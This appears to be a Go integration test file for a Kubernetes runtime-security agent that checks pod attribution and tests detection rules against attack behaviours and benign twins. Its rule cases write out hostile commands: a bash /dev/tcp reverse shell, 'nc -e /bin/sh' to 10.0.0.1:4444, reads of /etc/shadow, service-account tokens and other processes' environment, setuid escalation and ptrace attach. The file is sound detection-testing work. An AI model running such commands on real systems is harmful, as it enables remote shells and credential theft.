@@ -1,0 +1,398 @@
+package agent_test
+
+import (
+	"context"
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strconv"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/kubeward/kubeward/internal/agent"
+	"github.com/kubeward/kubeward/internal/agent/agenttest"
+	"github.com/kubeward/kubeward/internal/agent/attrib"
+	"github.com/kubeward/kubeward/internal/agent/bpf"
+	"github.com/kubeward/kubeward/internal/agent/event"
+	"github.com/kubeward/kubeward/internal/agent/rules"
+	"github.com/kubeward/kubeward/internal/audit/detect"
+	"github.com/kubeward/kubeward/internal/kubetest"
+	corev1 "k8s.io/api/core/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/client-go/kubernetes"
+)
+
+const node = "node-1"
+
+// TestMain lets the test binary act as a helper process in a simulated
+// container (ptrace needs a program that calls it).
+func TestMain(m *testing.M) {
+	switch os.Getenv("KUBEWARD_AGENT_HELPER") {
+	case "":
+		os.Exit(m.Run())
+	case "ptrace-attach":
+		// PTRACE_SEIZE attaches without stopping the tracee; the tracer's
+		// exit detaches it.
+		pid, _ := strconv.Atoi(os.Args[len(os.Args)-1])
+		if _, _, errno := syscall.RawSyscall6(syscall.SYS_PTRACE, 0x4206, uintptr(pid), 0, 0, 0, 0); errno != 0 {
+			fmt.Fprintln(os.Stderr, errno)
+			os.Exit(1)
+		}
+		os.Exit(0)
+	}
+}
+
+// rig is an agent on the real programs, attributing to the pods of a
+// real API server.
+type rig struct {
+	agent *agent.Agent
+	pods  *attrib.Pods
+	mu    sync.Mutex
+	seen  []event.Event
+	got   []detect.Alert
+	more  chan struct{}
+}
+
+func (r *rig) Observe(e *event.Event, dst []detect.Alert) []detect.Alert {
+	r.mu.Lock()
+	r.seen = append(r.seen, *e)
+	r.mu.Unlock()
+	r.poke()
+	return dst
+}
+
+func (r *rig) poke() {
+	select {
+	case r.more <- struct{}{}:
+	default:
+	}
+}
+
+func (r *rig) consume(alerts []detect.Alert) {
+	r.mu.Lock()
+	r.got = append(r.got, alerts...)
+	r.mu.Unlock()
+	r.poke()
+}
+
+// wait polls cond (under the lock) until it holds, for 10s.
+func (r *rig) wait(t *testing.T, what string, cond func() bool) {
+	t.Helper()
+	deadline := time.After(10 * time.Second)
+	for {
+		r.mu.Lock()
+		ok := cond()
+		r.mu.Unlock()
+		if ok {
+			return
+		}
+		select {
+		case <-r.more:
+		case <-time.After(100 * time.Millisecond):
+		case <-deadline:
+			t.Fatalf("timed out waiting for %s", what)
+		}
+	}
+}
+
+func (r *rig) alerts(rule, container string) []detect.Alert {
+	var out []detect.Alert
+	for _, a := range r.got {
+		if a.Rule == rule && a.Process != nil && a.Process.Container == container {
+			out = append(out, a)
+		}
+	}
+	return out
+}
+
+func startRig(t *testing.T, cs kubernetes.Interface, extra ...agent.Detector) (*rig, *bpf.Probes) {
+	t.Helper()
+	p := agenttest.Load(t, bpf.Options{})
+	root, err := bpf.CgroupRoot()
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	r := &rig{more: make(chan struct{}, 1), pods: attrib.NewPods(cs, node)}
+	go r.pods.Run(ctx)
+	if err := r.pods.WaitSynced(ctx); err != nil {
+		t.Fatal(err)
+	}
+	eng, err := rules.NewEngine(rules.DefaultOptions())
+	if err != nil {
+		t.Fatal(err)
+	}
+	dets := append([]agent.Detector{eng}, extra...)
+	r.agent, err = agent.New(p, &attrib.Attributor{Cgroups: attrib.NewCgroups(root), Pods: r.pods},
+		agent.Options{Node: node, Detectors: append(dets, r), Consumers: []func([]detect.Alert){r.consume}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	done := make(chan error, 1)
+	go func() { done <- r.agent.Run(ctx) }()
+	t.Cleanup(func() {
+		cancel()
+		if err := <-done; err != nil {
+			t.Errorf("agent: %v", err)
+		}
+	})
+	return r, p
+}
+
+// podWithContainers creates a pod whose containers are simulated, reports
+// them running, and waits until the agent's pod index knows them.
+func podWithContainers(t *testing.T, cs kubernetes.Interface, r *rig, pod *corev1.Pod, names ...string) map[string]*agenttest.Container {
+	t.Helper()
+	created := agenttest.Pod(t, cs, pod, node, names...)
+	cs2 := map[string]*agenttest.Container{}
+	ids := map[string]string{}
+	for _, n := range names {
+		c := agenttest.NewContainer(t, string(created.UID))
+		cs2[n], ids[n] = c, c.ID
+	}
+	agenttest.Running(t, cs, created, ids)
+	for _, n := range names {
+		c := cs2[n]
+		r.wait(t, "the pod index to know container "+n, func() bool {
+			p := r.pods.Lookup(attrib.Container{ID: c.ID, PodUID: c.PodUID})
+			return p != nil && p.Container == n
+		})
+	}
+	return cs2
+}
+
+// TestAttribution: events of a simulated container name the node, pod,
+// namespace, container, image and workload the API server knows.
+func TestAttribution(t *testing.T) {
+	agenttest.RequireBPF(t)
+	cl := kubetest.Start(t, kubetest.Options{})
+	cs := cl.Client()
+	r, _ := startRig(t, cs)
+	yes := true
+	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "web-7d4b9c-x2x9z", Namespace: "shop",
+		Labels:          map[string]string{"app": "web", "pod-template-hash": "7d4b9c"},
+		OwnerReferences: []metav1.OwnerReference{{APIVersion: "apps/v1", Kind: "ReplicaSet", Name: "web-7d4b9c", UID: "1", Controller: &yes}}}}
+	c := podWithContainers(t, cs, r, pod, "nginx")["nginx"]
+	c.Run(t, "/bin/true attribution")
+	var got event.Event
+	r.wait(t, "the exec", func() bool {
+		i := slices.IndexFunc(r.seen, func(e event.Event) bool { return e.Kind == event.Exec && slices.Contains(e.Args, "attribution") })
+		if i >= 0 {
+			got = r.seen[i]
+		}
+		return i >= 0
+	})
+	p := got.Pod
+	if p == nil {
+		t.Fatal("exec not attributed")
+	}
+	want := event.Pod{Node: node, Namespace: "shop", Name: "web-7d4b9c-x2x9z", Container: "nginx", ContainerID: c.ID,
+		Image: "registry.example/nginx:1", Workload: "Deployment/web", UID: c.PodUID}
+	if p.Node != want.Node || p.Namespace != want.Namespace || p.Name != want.Name || p.Container != want.Container ||
+		p.ContainerID != want.ContainerID || p.Image != want.Image || p.Workload != want.Workload || p.UID != want.UID {
+		t.Errorf("attributed to %+v, want %+v", *p, want)
+	}
+	if !strings.HasSuffix(p.ImageID, c.ID) {
+		t.Errorf("image id %q", p.ImageID)
+	}
+
+	// A process outside any container is not attributed.
+	if out, err := exec.Command("/bin/true", "host-side").CombinedOutput(); err != nil {
+		t.Fatal(err, string(out))
+	}
+	r.wait(t, "the host exec", func() bool {
+		return slices.ContainsFunc(r.seen, func(e event.Event) bool {
+			return e.Kind == event.Exec && slices.Contains(e.Args, "host-side")
+		})
+	})
+	for _, e := range r.seen {
+		if e.Kind == event.Exec && slices.Contains(e.Args, "host-side") && e.Pod != nil {
+			t.Errorf("host process attributed to %+v", *e.Pod)
+		}
+	}
+}
+
+// ruleCase is a behaviour that must fire rule and its benign twin that
+// must not.
+type ruleCase struct {
+	rule      string
+	do, twin  func(t *testing.T, c *agenttest.Container)
+	needsKind string // a blind spot that makes the case impossible here
+}
+
+// tool copies /bin/true under a name: exec rules judge the program's
+// name, and the copy runs anywhere.
+func tool(t *testing.T, name string) string {
+	t.Helper()
+	dir := filepath.Join(t.TempDir(), "bin")
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	b, err := os.ReadFile("/bin/true")
+	if err != nil {
+		t.Fatal(err)
+	}
+	p := filepath.Join(dir, name)
+	if err := os.WriteFile(p, b, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+func run(script string) func(t *testing.T, c *agenttest.Container) {
+	return func(t *testing.T, c *agenttest.Container) { c.Run(t, script) }
+}
+
+// private makes the container's mounts private, so what it mounts stays
+// in its mount namespace.
+const private = "mount --make-rprivate / && "
+
+func ruleCases(t *testing.T) []ruleCase {
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { l.Close() })
+	go func() {
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			go func() { time.Sleep(2 * time.Second); c.Close() }()
+		}
+	}()
+	port := strconv.Itoa(l.Addr().(*net.TCPAddr).Port)
+	self, err := os.Executable()
+	if err != nil {
+		t.Fatal(err)
+	}
+	// ptrace seizes a sleeping process; as nobody, the kernel refuses.
+	ptrace := func(as string) func(t *testing.T, c *agenttest.Container) {
+		return func(t *testing.T, c *agenttest.Container) {
+			cmd := c.Command(t, "sh", "-c", "sleep 5 & "+as+self+" $!; r=$?; kill $!; exit $r")
+			cmd.Env = append(os.Environ(), "KUBEWARD_AGENT_HELPER=ptrace-attach")
+			out, err := cmd.CombinedOutput()
+			if (err == nil) != (as == "") {
+				t.Fatalf("ptrace %s: %v\n%s", as, err, out)
+			}
+		}
+	}
+	token := "mkdir -p /run/secrets/kubernetes.io/serviceaccount && echo t > /run/secrets/kubernetes.io/serviceaccount/token && "
+	return []ruleCase{
+		{rule: "terminal-shell-in-container",
+			do:   run("script -qec 'sh -c true' /dev/null >/dev/null"),
+			twin: run("sh -c true")},
+		{rule: "reverse-shell",
+			do:   run("bash -c 'exec 3<>/dev/tcp/127.0.0.1/" + port + "; sh -c true <&3 >&3'"),
+			twin: run("echo | sh -c 'cat >/dev/null'")},
+		{rule: "package-manager-in-container",
+			do:   run(tool(t, "apt-get") + " install nmap"),
+			twin: run(tool(t, "apt-cache") + " policy")},
+		{rule: "compiler-in-container",
+			do:   run(tool(t, "go") + " build ./..."),
+			twin: run(tool(t, "go") + " version")},
+		{rule: "network-tool-in-container",
+			do:   run(tool(t, "nc") + " -e /bin/sh 10.0.0.1 4444"),
+			twin: run(tool(t, "ncdu") + " /")},
+		{rule: "sensitive-file-read",
+			do:   run("cat /etc/shadow >/dev/null"),
+			twin: run("cat /etc/hostname /etc/passwd >/dev/null")},
+		{rule: "service-account-token-read",
+			do:   run(private + "mount -t tmpfs none /run && " + token + "cat /run/secrets/kubernetes.io/serviceaccount/token >/dev/null"),
+			twin: run(private + "mount -t tmpfs none /run && " + token + "cp /bin/cat /run/myapp && /run/myapp /run/secrets/kubernetes.io/serviceaccount/token >/dev/null")},
+		{rule: "proc-environ-read",
+			do: func(t *testing.T, c *agenttest.Container) {
+				// The container sees the host's /proc: the other process
+				// is a host process.
+				other := exec.Command("sleep", "30")
+				if err := other.Start(); err != nil {
+					t.Fatal(err)
+				}
+				defer func() { other.Process.Kill(); other.Wait() }()
+				c.Run(t, "cat /proc/"+strconv.Itoa(other.Process.Pid)+"/environ >/dev/null")
+			},
+			twin: run("cat /proc/self/environ >/dev/null")},
+		{rule: "write-below-binary-dir",
+			do:   run(private + "mount -t tmpfs none /usr/local/sbin && echo x > /usr/local/sbin/planted"),
+			twin: run("d=$(mktemp -d) && echo x > $d/not-planted && rm -r $d")},
+		{rule: "privilege-escalation-setuid",
+			do:   run("setpriv --reuid 1000 --regid 1000 --clear-groups --inh-caps +setuid --ambient-caps +setuid -- setpriv --reuid 0 true"),
+			twin: run("setpriv --reuid 65534 --regid 65534 --clear-groups true")},
+		{rule: "namespace-change",
+			do: run("unshare -n true"),
+			// The same call outside a container: runtimes do it all day.
+			twin: func(t *testing.T, c *agenttest.Container) {
+				if out, err := exec.Command("unshare", "-n", "true").CombinedOutput(); err != nil {
+					t.Fatal(err, string(out))
+				}
+			}},
+		{rule: "mount-in-container",
+			do:   run(private + "mount -t tmpfs none /mnt"),
+			twin: run("! setpriv --reuid 65534 --regid 65534 --clear-groups mount -t tmpfs none /mnt 2>/dev/null")},
+		{rule: "ptrace-attach",
+			do:   ptrace(""),
+			twin: ptrace("setpriv --reuid 65534 --regid 65534 --clear-groups ")},
+		{rule: "kernel-module-load", needsKind: "init_module",
+			do:   run("! insmod /nonexistent.ko 2>/dev/null"),
+			twin: run("lsmod >/dev/null 2>&1 || true")},
+		{rule: "metadata-service-connect",
+			do:   run("bash -c 'echo x >/dev/udp/169.254.169.254/80' || true"),
+			twin: run("bash -c 'echo x >/dev/udp/169.254.1.1/80' || true")},
+	}
+}
+
+// TestRules: each rule fires on its behaviour in a simulated container of
+// a pod in the API server, and not on its benign twin.
+func TestRules(t *testing.T) {
+	agenttest.RequireBPF(t)
+	cl := kubetest.Start(t, kubetest.Options{})
+	cs := cl.Client()
+	r, probes := startRig(t, cs)
+	cases := ruleCases(t)
+	var names []string
+	for i := range cases {
+		names = append(names, "do"+strconv.Itoa(i), "twin"+strconv.Itoa(i))
+	}
+	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "victim", Namespace: "rules"}}
+	cons := podWithContainers(t, cs, r, pod, names...)
+	covered := map[string]bool{}
+	for i, tc := range cases {
+		t.Run(tc.rule, func(t *testing.T) {
+			if tc.needsKind != "" && slices.ContainsFunc(probes.Missing, func(m string) bool { return strings.HasPrefix(m, tc.needsKind) }) {
+				t.Skipf("this kernel has no %s: the behaviour cannot happen here", tc.needsKind)
+			}
+			covered[tc.rule] = true
+			do, twin := "do"+strconv.Itoa(i), "twin"+strconv.Itoa(i)
+			tc.twin(t, cons[twin])
+			tc.do(t, cons[do])
+			r.wait(t, tc.rule+" on its behaviour", func() bool { return len(r.alerts(tc.rule, do)) > 0 })
+			// Everything the twin did was handled once an exec after it is.
+			sentinel := "sentinel-" + strconv.Itoa(i)
+			cons[twin].Run(t, "/bin/true "+sentinel)
+			r.wait(t, "the sentinel", func() bool {
+				return slices.ContainsFunc(r.seen, func(e event.Event) bool { return e.Kind == event.Exec && slices.Contains(e.Args, sentinel) })
+			})
+			r.mu.Lock()
+			defer r.mu.Unlock()
+			if a := r.alerts(tc.rule, twin); len(a) > 0 {
+				t.Errorf("fired on the benign twin: %s", a[0].Message)
+			}
+			a := r.alerts(tc.rule, do)[0]
+			if a.Object == nil || a.Object.Name != "victim" || a.Object.Namespace != "rules" || a.Node != node || len(a.MITRE) == 0 {
+				t.Errorf("alert %+v", a)
+			}
+		})
+	}
+	for _, rl := range rules.Rules() {
+		if !covered[rl.ID] && rl.ID != "exec-not-allowed" && rl.ID != "kernel-module-load" {
+			t.Errorf("rule %s has no case", rl.ID)
+		}
+	}
+}
